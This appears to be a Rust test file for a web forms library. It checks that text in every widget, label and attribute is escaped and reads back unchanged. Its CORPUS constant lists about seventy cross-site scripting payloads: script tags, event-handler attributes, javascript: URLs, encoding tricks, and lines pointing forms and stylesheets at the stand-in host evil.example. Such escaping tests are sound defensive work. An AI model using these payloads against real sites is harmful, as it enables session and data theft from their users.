//! Texts that would be markup, in every place of every widget, in every style: they stay texts.

use std::collections::BTreeSet;

use frontdesk_data::{Field, FieldType, UploadOptions, Value};
use frontdesk_forms::{
    CheckboxWidget, ColorWidget, DateTimeWidget, FieldWidget, Form, FormSpec, InputWidget, JsonWidget,
    KeyValueWidget, ListWidget, OrderedListWidget, PasswordWidget, RadioWidget, RangeWidget, ReferenceWidget,
    SelectWidget, Style, TagsWidget, TextareaWidget,
};
use frontdesk_validate::IsInSet;
use scraper::{Html, Node};

use crate::visitor::Visitor;

/// What gets out of badly escaped text, attributes, addresses, comments, scripts, or parsers of another mind.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "x onfocus=alert(1) autofocus ",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "</form><form action=//evil.example><input name=_formkey>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</TEXTAREA ><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "</option></select><script>alert(1)</script>",
    "</optgroup><option>x",
    "</legend></fieldset><script>alert(1)</script>",
    "</label><label for=other>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<script\u{b}>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onclick=&quot;alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \u{1}javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%0d%0aSet-Cookie:x=1",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u{202e}\u{2066}<b>\u{2069}",
    "\"'`<>&;/\\=",
];

/// A form with the text wherever a text can be.
fn form(text: &'static str) -> FormSpec {
    let field = |name: &'static str, kind: FieldType| {
        Field::new(name, kind).label(text).comment(text).placeholder(text).title(text).default(text)
    };
    let set = || IsInSet::pairs([(text, text)]).zero(text).group(text, [text]).error_message(text);
    let many = |name: &'static str| {
        field(name, FieldType::ListString).default(Value::List(vec![text.into(), "b".into()]))
    };
    let files = || UploadOptions::default().download_url(move |_| text.to_owned());
    Form::for_fields(
        text,
        [
            field("text", FieldType::String),
            field("tel", FieldType::String).with_widget(InputWidget::new("tel")),
            field("number", FieldType::String).with_widget(InputWidget::new("number")),
            field("textarea", FieldType::String).with_widget(TextareaWidget::new()),
            field("password", FieldType::String).with_widget(PasswordWidget::new()),
            field("date", FieldType::String).with_widget(DateTimeWidget::date()),
            field("datetime", FieldType::String).with_widget(DateTimeWidget::datetime()),
            field("zoned", FieldType::String).with_widget(DateTimeWidget::zoned("Europe/Berlin").unwrap()),
            field("color", FieldType::String).with_widget(ColorWidget::new()),
            field("range", FieldType::String).with_widget(RangeWidget::new()),
            field("json", FieldType::String).with_widget(JsonWidget::new()),
            field("keyvalue", FieldType::String).with_widget(KeyValueWidget::new()),
            field("select", FieldType::String).requires(set()).with_widget(SelectWidget::new()),
            field("radio", FieldType::String).requires(set()).with_widget(RadioWidget::new()),
            field("reference", FieldType::String).requires(set()).with_widget(ReferenceWidget::new()),
            many("checkboxes").requires(set().multiple(..)).with_widget(CheckboxWidget::new()),
            many("several").requires(set().multiple(..)).with_widget(SelectWidget::new()),
            many("ordered").with_widget(OrderedListWidget::new()),
            many("ranked").requires(set().multiple(..)).with_widget(OrderedListWidget::new()),
            many("list").with_widget(ListWidget::new()),
            many("tags").with_widget(TagsWidget::new()),
            field("boolean", FieldType::Boolean),
            field("file", FieldType::Upload).upload_options(files()),
            field("files", FieldType::ListUpload)
                .default(Value::List(vec![text.into()]))
                .upload_options(files()),
            field("shown", FieldType::String).writable(false),
        ],
    )
    .submit_value(text)
    .sidecar(text)
    .action(text)
    .hidden("hidden", text)
    .validation(move |form| {
        form.refuse_form(text);
        for name in
            ["text", "textarea", "select", "radio", "checkboxes", "ordered", "tags", "file", "boolean"]
        {
            if form.error(name).is_none() {
                form.refuse(name, text);
            }
        }
    })
}

/// The names of the elements and of their attributes.
fn skeleton(html: &str) -> BTreeSet<String> {
    let document = Html::parse_document(html);
    let mut names = BTreeSet::new();
    for node in document.tree.values() {
        match node {
            Node::Element(element) => {
                for (name, value) in element.attrs() {
                    names.insert(format!("{} {name}", element.name()));
                    if matches!(name, "href" | "src" | "action" | "formaction" | "srcdoc" | "style") {
                        let plain: String = value.chars().filter(|letter| *letter > ' ').collect();
                        let plain = plain.to_ascii_lowercase();
                        assert!(
                            !["javascript:", "vbscript:", "data:text"]
                                .iter()
                                .any(|bad| plain.starts_with(bad)),
                            "{name}={value:?}"
                        );
                    }
                }
                names.insert(element.name().to_owned());
            }
            Node::Comment(comment) => panic!("a comment: {:?}", &**comment),
            _ => {}
        }
    }
    names
}

/// The elements and attributes of a page with nothing odd in it.
async fn expected(style: &Style) -> BTreeSet<String> {
    let spec = form("plain").formstyle(style.clone());
    let mut visitor = Visitor::new();
    let mut names = skeleton(&visitor.get(&spec).await.html);
    names.extend(skeleton(&submit(&mut visitor, &spec, "plain").await));
    names
}

/// Everything submitted, and everything refused.
async fn submit(visitor: &mut Visitor, spec: &FormSpec, text: &str) -> String {
    let names = [
        "text",
        "tel",
        "number",
        "textarea",
        "password",
        "date",
        "datetime",
        "zoned",
        "color",
        "range",
        "json",
        "keyvalue",
        "select",
        "radio",
        "reference",
        "checkboxes",
        "several",
        "ordered",
        "ranked",
        "list",
        "tags",
    ];
    let values: Vec<(&str, &str)> = names.iter().map(|name| (*name, text)).collect();
    visitor.submit(spec, &values).await.html
}

#[tokio::test]
async fn form_08_no_text_is_ever_markup() {
    let styles =
        [Style::plain(), Style::bulma(), Style::bootstrap4(), Style::bootstrap5(), Style::tailwind()];
    assert!(CORPUS.len() >= 60);
    for style in &styles {
        let known = expected(style).await;
        for text in CORPUS {
            let spec = form(text).formstyle(style.clone());
            let mut visitor = Visitor::new();
            let empty = visitor.get(&spec).await.html;
            for html in [empty, submit(&mut visitor, &spec, text).await] {
                let found = skeleton(&html);
                // An input of many lines takes the place of one that would drop a line break.
                let lines = |name: &str| text.contains('\n') && name.starts_with("textarea");
                let odd: Vec<_> = found.difference(&known).filter(|name| !lines(name)).collect();
                assert!(odd.is_empty(), "{text:?} makes {odd:?} in {html}");
            }
        }
    }
}

#[tokio::test]
async fn form_08_texts_read_back_as_they_were() {
    for text in CORPUS.iter().filter(|text| !text.contains('\0')) {
        let spec = form(text);
        let mut visitor = Visitor::new();
        let page = visitor.get(&spec).await;
        assert_eq!(page.value_of("text").as_deref().map(lines), Some(lines(text)));
        assert_eq!(page.value_of("hidden").as_deref(), Some(*text));
        let options = page.select("select[name=select] option");
        assert!(options.iter().any(|option| option.attr("value") == Some(text)), "{text:?}");
        let labels: Vec<String> =
            page.select("label").iter().map(|label| label.text().collect::<String>()).collect();
        assert!(labels.iter().any(|label| lines(label).trim() == lines(text).trim()), "{text:?} {labels:?}");
    }
}

/// Whatever was typed into whichever widget comes back in it, of the wrong type or not; passwords never do.
#[tokio::test]
async fn form_01_every_widget_gives_back_what_was_typed() {
    let written = [
        "text", "tel", "number", "textarea", "date", "datetime", "zoned", "color", "range", "json",
        "keyvalue", "list", "tags",
    ];
    let chosen = ["select", "radio", "reference", "checkboxes", "several", "ranked"];
    let odd_types =
        ["0", "false", "12,5", "2024-02-30", "25:61", "#ggg", "[1", "nan", "ON", "é\u{301}", "  both ends  "];
    for text in CORPUS.iter().chain(&odd_types).filter(|text| !text.contains('\0')) {
        let spec = form("plain").validation(|form| form.refuse("text", "no"));
        let mut visitor = Visitor::new();
        let names = written.iter().chain(&chosen).chain(&["password", "boolean"]);
        let values: Vec<(&str, &str)> = names.map(|name| (*name, *text)).collect();
        let page = visitor.submit(&spec, &values).await;
        assert_eq!(page.status, http::StatusCode::UNPROCESSABLE_ENTITY);
        for name in written.iter().chain(&chosen) {
            // What has several lines is several tags.
            if *name == "tags" && text.contains('\n') {
                continue;
            }
            let found = page.value_of(name).unwrap_or_default();
            assert_eq!(lines(&found), lines(text), "{name}: {}", page.html);
        }
        let password = page.select("[name=password]")[0];
        assert_eq!(password.attr("value").unwrap_or_default(), "");
    }
}

fn lines(text: &str) -> String {
    text.replace("\r\n", "\n")
}
